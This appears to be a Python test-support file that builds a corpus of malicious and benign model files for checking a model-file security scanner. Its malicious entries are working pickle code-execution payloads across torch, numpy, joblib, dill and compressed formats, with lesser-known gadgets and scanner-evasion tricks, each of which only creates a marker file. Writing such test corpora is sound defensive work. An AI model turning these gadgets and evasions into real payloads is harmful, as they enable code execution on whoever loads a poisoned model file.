"""Build the malicious and benign model-file corpus at test time, into a temporary folder.

Nothing executable is stored in the repository: every payload is assembled here from opcodes or from
``__reduce__`` and only ever touches its own marker file (``<folder>/markers/<name>``). Each malicious
entry names the loader a user would run on it (``pickle``, ``torch``, ``numpy``, ``joblib``, ``dill``,
``gzip``, ``bz2``, ``lzma``); ``loaders.py`` runs those loaders in a child process to prove the payloads work.
Run ``python tests/security/corpus.py DIR`` to write the corpus to DIR.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Entry:
    name: str
    file: str
    loader: str  # pickle | torch | numpy | joblib | dill | gzip | bz2 | lzma | none (benign)
    technique: str


class Reduce:
    """Pickles as ``func(*args)``: how an attacker writes a payload with ordinary ``pickle.dumps``."""

    def __init__(self, func: Callable, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)


def _str(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def _call(module: str, name: str, *args: str, proto: int = 2) -> bytes:
    """Opcodes: import module.name, call it with string args (GLOBAL + TUPLE + REDUCE)."""
    body = f"c{module}\n{name}\n".encode() + b"(" + b"".join(_str(a) for a in args) + b"tR"
    return bytes([0x80, proto]) + body + b"."


def _shell(marker: Path) -> str:
    return f"touch {marker}"


def _py(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def malicious(folder: Path) -> list[Entry]:
    """Write every malicious file into ``folder``; return what each one is and which loader runs it."""
    import dill
    import joblib
    import numpy as np

    marks = folder / "markers"
    marks.mkdir(parents=True, exist_ok=True)
    entries: list[Entry] = []

    def add(name: str, data: bytes, loader: str, technique: str, suffix: str = ".pkl") -> None:
        (folder / f"{name}{suffix}").write_bytes(data)
        entries.append(Entry(name, f"{name}{suffix}", loader, technique))

    def m(name: str) -> Path:
        return marks / name

    for proto in range(6):
        add(f"os_system_p{proto}", pickle.dumps(Reduce(os.system, _shell(m(f"os_system_p{proto}"))), protocol=proto),
            "pickle", f"os.system via __reduce__, protocol {proto}")  # fmt: skip
    add("posix_system_text", f"cposix\nsystem\n(S'{_shell(m('posix_system_text'))}'\ntR.".encode(), "pickle",
        "PROTO-less protocol 0 GLOBAL posix.system")  # fmt: skip
    add("inst_p0", f"(S'{_shell(m('inst_p0'))}'\nios\nsystem\n.".encode(), "pickle", "protocol 0 INST os.system")
    add("obj_p1", b"(cos\nsystem\n" + _str(_shell(m("obj_p1"))).replace(b"\x8c", b"U") + b"o.", "pickle",
        "protocol 1 OBJ os.system")  # fmt: skip
    add("builtin_exec_p0", f"c__builtin__\nexec\n(S\"{_py(m('builtin_exec_p0'))}\"\ntR.".encode(), "pickle",
        "__builtin__.exec mapped to builtins by protocol 0")  # fmt: skip
    add("builtins_eval", _call("builtins", "eval", _py(m("builtins_eval"))), "pickle", "builtins.eval")
    add("subprocess_popen", pickle.dumps(Reduce(subprocess.call, ["touch", str(m("subprocess_popen"))]), protocol=4),
        "pickle", "subprocess.call, protocol 4 STACK_GLOBAL")  # fmt: skip
    add("mark_pop", b"\x80\x04(0" + _call("os", "system", _shell(m("mark_pop")))[2:], "pickle",
        "MARK then POP (drops the mark, legal in CPython) before the payload")  # fmt: skip
    add("stack_global_decoy",
        b"\x80\x04" + _str("collections") + b"\x94" + _str("OrderedDict") + b"\x94" + _str("os") + b"\x94"
        + _str("system") + b"\x94h\x02h\x03\x93" + _str(_shell(m("stack_global_decoy"))) + b"\x85R.",
        "pickle", "STACK_GLOBAL from memoized strings after allow-listed decoys")  # fmt: skip
    add("dotted_stack_global",
        b"\x80\x04" + _str("subprocess") + _str("os.system") + b"\x93" + _str(_shell(m("dotted_stack_global")))
        + b"\x85R.", "pickle", "dotted name: subprocess + os.system resolved by getattr")  # fmt: skip
    add("frame_p5", pickle.dumps(Reduce(os.system, _shell(m("frame_p5"))), protocol=5), "pickle", "FRAMEd protocol 5")
    add("uuid_gadget", _call("uuid", "_get_command_stdout", "touch", str(m("uuid_gadget"))), "pickle",
        "uuid._get_command_stdout")  # fmt: skip
    add("osx_support", _call("_osx_support", "_read_output", _shell(m("osx_support"))), "pickle",
        "_osx_support._read_output")  # fmt: skip
    add("imaplib_stream", _call("imaplib", "IMAP4_stream", _shell(m("imaplib_stream"))), "pickle",
        "imaplib.IMAP4_stream runs a shell command")  # fmt: skip
    config = (b"\x80\x02clogging.config\ndictConfig\n(}(" + _str("version") + b"K\x01" + _str("handlers") + b"}("
              + _str("h") + b"}(" + _str("()") + _str("subprocess.getoutput") + _str("cmd")
              + _str(_shell(m("logging_config"))) + b"uuutR.")  # fmt: skip
    add("logging_config", config, "pickle", "logging.config.dictConfig with a '()' factory")
    add("codecs_open", _call("codecs", "open", str(m("codecs_open")), "w"), "pickle", "codecs.open creates a file")
    add("runpy_run_code", b"\x80\x02crunpy\n_run_code\n(" + _str(_py(m("runpy_run_code"))) + b"}tR.", "pickle",
        "runpy._run_code")  # fmt: skip
    add("timeit", _call("timeit", "timeit", "pass", _py(m("timeit"))), "pickle", "timeit.timeit runs its setup")
    add("pydoc_pipepager", _call("pydoc", "pipepager", "", _shell(m("pydoc_pipepager"))), "pickle",
        "pydoc.pipepager")  # fmt: skip
    add("f2py_myeval", _call("numpy.f2py.crackfortran", "myeval", _py(m("f2py_myeval"))), "pickle",
        "numpy.f2py.crackfortran.myeval")  # fmt: skip
    add("pkgutil_resolve", b"\x80\x02cpkgutil\nresolve_name\n(" + _str("os:system") + b"tR(" +
        _str(_shell(m("pkgutil_resolve"))) + b"tR.", "pickle", "pkgutil.resolve_name then call the result")  # fmt: skip
    add("getattr_import", b"\x80\x02cbuiltins\ngetattr\n(cbuiltins\n__import__\n(" + _str("os") + b"tR" +
        _str("system") + b"tR(" + _str(_shell(m("getattr_import"))) + b"tR.", "pickle",
        "getattr(__import__('os'), 'system')")  # fmt: skip
    add("collect_env", _call("torch.utils.collect_env", "run", _shell(m("collect_env"))), "pickle",
        "torch.utils.collect_env.run")  # fmt: skip
    add("torch_import_dotted", b"\x80\x02ctorch._utils\n_import_dotted_name\n(" + _str("os.system") + b"tR(" +
        _str(_shell(m("torch_import_dotted"))) + b"tR.", "pickle", "torch._utils._import_dotted_name")  # fmt: skip
    inner = pickle.dumps(Reduce(os.system, _shell(m("nested_loads"))), protocol=2)
    add("nested_loads", pickle.dumps(Reduce(pickle.loads, inner), protocol=2), "pickle", "pickle.loads of bytes")
    inner = pickle.dumps(Reduce(os.system, _shell(m("load_from_bytes"))), protocol=2)
    add("load_from_bytes", b"\x80\x02ctorch.storage\n_load_from_bytes\n(C" + bytes([len(inner)]) + inner + b"tR.",
        "pickle", "torch.storage._load_from_bytes of bytes")  # fmt: skip
    evil_npy = folder / "inner_object.npy"
    np.save(evil_npy, np.array([Reduce(os.system, _shell(m("numpy_load")))], dtype=object), allow_pickle=True)
    add("numpy_load", b"\x80\x02cnumpy\nload\n(" + _str(str(evil_npy)) + b"NI01\ntR.", "pickle",
        "numpy.load(allow_pickle=True) of a second file")  # fmt: skip
    add("second_stream", pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
        + pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
        + pickle.dumps(Reduce(os.system, _shell(m("second_stream"))), protocol=2) + pickle.dumps([], protocol=2),
        "torch", "legacy torch.save layout: the payload in stream 4", ".pt")  # fmt: skip
    buf = io.BytesIO()
    np.save(buf, np.array([Reduce(os.system, _shell(m("npy_object")))], dtype=object), allow_pickle=True)
    add("npy_object", buf.getvalue(), "numpy", ".npy object array", ".npy")
    buf = io.BytesIO()
    np.savez(buf, w=np.arange(3), x=np.array([Reduce(os.system, _shell(m("npz_object")))], dtype=object))
    add("npz_object", buf.getvalue(), "numpy", ".npz member holding an object array", ".npz")
    for compress, suffix in ((0, ".joblib"), (3, ".joblib.z"), ("lz4", ".joblib.lz4"), ("xz", ".joblib.xz")):
        name = f"joblib_{suffix.rsplit('.', 1)[-1]}"
        target = folder / f"{name}{suffix}"
        joblib.dump({"w": np.arange(5.0), "x": Reduce(os.system, _shell(m(name)))}, target, compress=compress)
        entries.append(Entry(name, target.name, "joblib", f"joblib.dump, compress={compress!r}"))
    target = folder / "joblib_object_array.joblib"
    joblib.dump(np.array([Reduce(os.system, _shell(m("joblib_object_array")))], dtype=object), target)
    entries.append(Entry("joblib_object_array", target.name, "joblib", "joblib object array (nested pickle)"))
    add("dill_payload", dill.dumps(Reduce(os.system, _shell(m("dill_payload")))), "dill", "dill.dumps", ".dill")
    plain = pickle.dumps(Reduce(os.system, _shell(m("gzip_wrapped"))), protocol=2)
    add("gzip_wrapped", gzip.compress(plain), "gzip", "gzip-wrapped pickle", ".pkl.gz")
    plain = pickle.dumps(Reduce(os.system, _shell(m("bz2_wrapped"))), protocol=2)
    add("bz2_wrapped", bz2.compress(plain), "bz2", "bz2-wrapped pickle", ".pkl.bz2")
    plain = pickle.dumps(Reduce(os.system, _shell(m("xz_wrapped"))), protocol=2)
    add("xz_wrapped", lzma.compress(plain), "lzma", "xz-wrapped pickle", ".pkl.xz")
    entries += _torch_zips(folder, m)
    return entries


def _torch_zips(folder: Path, m: Callable[[str], Path]) -> list[Entry]:
    import torch

    out = []
    path = folder / "torch_zip.pt"
    torch.save({"w": torch.zeros(2), "x": Reduce(os.system, _shell(m("torch_zip")))}, path)
    out.append(Entry("torch_zip", path.name, "torch", "torch.save zip checkpoint, payload in archive/data.pkl"))
    target = folder / "torch_zip_header_name.pt"
    torch.save({"w": torch.zeros(2), "x": Reduce(os.system, _shell(m("torch_zip_header_name")))}, target)
    data = bytearray(target.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo(next(n for n in zf.namelist() if n.endswith("data.pkl")))
    name_len = struct.unpack("<H", data[info.header_offset + 26 : info.header_offset + 28])[0]
    start = info.header_offset + 30
    data[start : start + name_len] = data[start : start + name_len].replace(b"data.pkl", b"xata.pkl")
    target.write_bytes(bytes(data))
    out.append(Entry("torch_zip_header_name", target.name, "torch", "zip local header name differs from directory"))
    return out


def benign(folder: Path) -> list[Entry]:
    """Real files that are safe to load: checkpoints made by torch, numpy, joblib, safetensors, ONNX, GGUF."""
    import joblib
    import numpy as np
    import torch
    from sklearn.linear_model import LogisticRegression

    from opskit.samples.models import classifier_tensors, safetensors_bytes

    folder.mkdir(parents=True, exist_ok=True)
    out: list[Entry] = []
    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))

    def keep(name: str, technique: str) -> None:
        out.append(Entry(name.replace(".", "_"), name, "none", technique))

    torch.save(net.state_dict(), folder / "state_dict.pt")
    keep("state_dict.pt", "torch.save state dict (zip)")
    torch.save(net.state_dict(), folder / "state_dict_legacy.pt", _use_new_zipfile_serialization=False)
    keep("state_dict_legacy.pt", "torch.save state dict, legacy format")
    torch.save({"model": net.state_dict(), "epoch": 3, "sparse": torch.eye(3).to_sparse()}, folder / "ckpt.pt")
    keep("ckpt.pt", "training checkpoint with a sparse tensor")
    torch.save(net, folder / "full_module.pt")
    keep("full_module.pt", "torch.save(model): model code, trusted-source verdict")
    np.save(folder / "array.npy", np.arange(12.0).reshape(3, 4))
    keep("array.npy", "numpy numeric array")
    np.savez(folder / "arrays.npz", a=np.arange(3), b=np.ones(2))
    keep("arrays.npz", "numpy npz of numeric arrays")
    (folder / "array_p5.pkl").write_bytes(pickle.dumps(np.arange(6), protocol=5))
    keep("array_p5.pkl", "numpy array pickled with protocol 5")
    (folder / "list_p0.pkl").write_bytes(pickle.dumps([1, 2.5, "a", {"k": (1,)}], protocol=0))
    keep("list_p0.pkl", "protocol 0 list")
    joblib.dump({"w": np.arange(10.0)}, folder / "arrays.joblib")
    keep("arrays.joblib", "joblib of numeric arrays")
    joblib.dump({"w": np.arange(10.0)}, folder / "arrays_z.joblib", compress=3)
    keep("arrays_z.joblib", "compressed joblib of numeric arrays")
    rng = np.random.default_rng(0)
    clf = LogisticRegression().fit(rng.random((20, 3)), np.arange(20) % 2)
    joblib.dump(clf, folder / "sklearn.joblib")
    keep("sklearn.joblib", "sklearn estimator via joblib: model code, trusted-source verdict")
    (folder / "weights.safetensors").write_bytes(safetensors_bytes(classifier_tensors(rng, hidden=8)))
    keep("weights.safetensors", "safetensors")
    gguf = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 4) + b"name" + struct.pack("<IQ", 8, 3) + b"toy"
    (folder / "tiny.gguf").write_bytes(gguf)
    keep("tiny.gguf", "GGUF header")
    # ONNX ModelProto by hand (onnx is not a dependency): ir_version 7, producer, a graph named g, opset 13
    (folder / "tiny.onnx").write_bytes(b"\x08\x07\x12\x06opskit:\x03\x12\x01gB\x02\x10\x0d")
    keep("tiny.onnx", "ONNX model header")
    return out


if __name__ == "__main__":  # pragma: no cover
    root = Path(sys.argv[1])
    for e in malicious(root / "malicious") + benign(root / "benign"):
        print(e.loader, e.file, e.technique, sep="\t")
